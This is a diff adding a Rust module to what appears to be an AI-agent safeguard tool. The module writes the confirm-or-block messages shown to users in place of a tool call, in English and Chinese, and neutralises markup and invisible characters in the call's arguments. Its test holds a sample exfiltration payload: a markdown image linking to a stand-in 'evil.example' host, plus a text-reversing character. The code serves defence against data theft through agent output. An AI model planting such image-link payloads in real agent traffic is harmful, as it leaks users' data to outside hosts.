@@ -1,0 +1,91 @@
+//! What the user reads in the place of a call.
+
+use ombud_core::effect::Effect;
+use ombud_core::gate::{CallDecision, Doubt, quoted};
+use ombud_core::{Lang, Say, say};
+
+/// Characters of the arguments that are shown.
+const SHOWN: usize = 1600;
+
+/// The text for a call that is not released; `None` if it is. `code` releases it where the user may decide.
+pub fn text(
+    decision: &CallDecision,
+    tool: &str,
+    effect: Effect,
+    arguments: &str,
+    code: &str,
+    lang: Lang,
+) -> Option<String> {
+    let (tool, does, arguments) = (quoted(tool), effect.say(lang), fenced(arguments));
+    let why: Vec<String> = decision.doubts().iter().map(|doubt| format!("- {}", doubt.say(lang))).collect();
+    let why = why.join("\n");
+    match decision {
+        CallDecision::Release(_) | CallDecision::Approved => None,
+        CallDecision::Ask(_) => Some(say!(lang,
+            en: "I need your confirmation first. I was about to call {tool}, which {does}:\n\n{arguments}\n\nWhy I ask:\n{why}\n\nTo allow exactly this call, reply: yes {code}",
+            zh: "这一步需要你先确认。我正要调用 {tool}（{does}）：\n\n{arguments}\n\n询问原因：\n{why}\n\n如果同意执行这一次调用，请回复：同意 {code}")),
+        CallDecision::Block(doubts) if doubts.contains(&Doubt::Secret) => Some(say!(lang,
+            en: "I did not call {tool}:\n{why}\n\nGive the tool its secret outside the prompt, or set `\"key.api\" = \"mask\"` under [policy.masking] in ombud.toml.",
+            zh: "我没有调用 {tool}：\n{why}\n\n请不要把密钥写进提示词，而是直接交给工具；或在 ombud.toml 的 [policy.masking] 下设置 `\"key.api\" = \"mask\"`。")),
+        CallDecision::Block(_) => Some(say!(lang,
+            en: "I did not call {tool}, which {does}:\n\n{arguments}\n\nWhy:\n{why}\n\nThe rules of this agent do not allow it. Its developer can change that under [tools] in ombud.toml.",
+            zh: "我没有调用 {tool}（{does}）：\n\n{arguments}\n\n原因：\n{why}\n\n该智能体的规则不允许这样做；开发者可以在 ombud.toml 的 [tools] 中调整。")),
+    }
+}
+
+/// The arguments as a block of code, in which no markup of theirs takes effect: a picture that the client would load could
+/// carry data away.
+fn fenced(arguments: &str) -> String {
+    let clean = |ch: char| if ch.is_control() || is_invisible(ch) { ' ' } else { ch };
+    let mut shown: String =
+        arguments.chars().take(SHOWN).map(clean).collect::<String>().replace("```", "'''");
+    if arguments.chars().nth(SHOWN).is_some() {
+        shown.push('…');
+    }
+    format!("```json\n{shown}\n```")
+}
+
+/// Characters that hide or turn text around.
+fn is_invisible(ch: char) -> bool {
+    matches!(u32::from(ch), 0x200b..=0x200f | 0x202a..=0x202e | 0x2060..=0x206f | 0xfeff | 0xe0000..=0xe007f)
+}
+
+/// The language to speak to a user: that of their last turn, or else the operator's.
+pub fn language(turns: &[(usize, String)], fallback: Lang) -> Lang {
+    let Some((_, turn)) = turns.last() else { return fallback };
+    let chinese = turn.chars().filter(|ch| crate::attribute::index::is_ideograph(*ch)).count();
+    let latin = turn.split(|ch: char| !ch.is_ascii_alphabetic()).filter(|word| word.len() > 2).count();
+    match (chinese, latin) {
+        (0, 0) => fallback,
+        (chinese, latin) if chinese >= latin => Lang::Zh,
+        _ => Lang::En,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_question_names_the_call_and_lets_no_markup_through() {
+        let decision = CallDecision::Ask(vec![Doubt::NotAsked]);
+        let arguments = "{\"to\":\"x\",\"body\":\"```\\n![a](http://evil.example/?d=1)\u{202e}\"}";
+        let asked = text(&decision, "send_mail", Effect::Send, arguments, "4F2A7K", Lang::En).unwrap();
+        assert!(asked.ends_with("reply: yes 4F2A7K") && asked.contains("`send_mail`"), "{asked}");
+        let inside = asked.split("```").nth(1).unwrap();
+        assert!(inside.contains("evil.example") && !asked.contains('\u{202e}'), "{asked}");
+        let blocked =
+            text(&CallDecision::Block(vec![Doubt::NotAsked]), "t", Effect::Pay, "{}", "4F2A7K", Lang::Zh)
+                .unwrap();
+        assert!(!blocked.contains("4F2A7K") && blocked.contains("ombud.toml"), "{blocked}");
+        assert_eq!(text(&CallDecision::Approved, "t", Effect::Pay, "{}", "4F2A7K", Lang::Zh), None);
+    }
+
+    #[test]
+    fn a_user_is_answered_in_their_language() {
+        let turns = |text: &str| vec![(0, text.to_owned())];
+        assert_eq!(language(&turns("请回复 anna@example.com"), Lang::En), Lang::Zh);
+        assert_eq!(language(&turns("please reply"), Lang::Zh), Lang::En);
+        assert_eq!(language(&turns("42"), Lang::Zh), Lang::Zh);
+    }
+}
